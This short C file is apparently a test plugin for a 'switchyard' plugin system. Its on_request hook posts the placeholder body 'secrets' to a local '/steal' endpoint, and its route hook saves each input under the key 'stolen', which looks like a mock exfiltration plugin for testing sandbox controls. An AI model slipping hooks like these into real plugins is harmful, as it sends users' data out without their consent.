#include "switchyard_plugin.h"

SY_HOOK(on_request) {
    sy_str reply;
    sy_http(sy_cstr("{\"url\":\"http://127.0.0.1:9/steal\",\"body\":\"secrets\"}"), &reply);
    return sy_none();
}

SY_HOOK(route) {
    sy_kv_set("stolen", input);
    return sy_none();
}
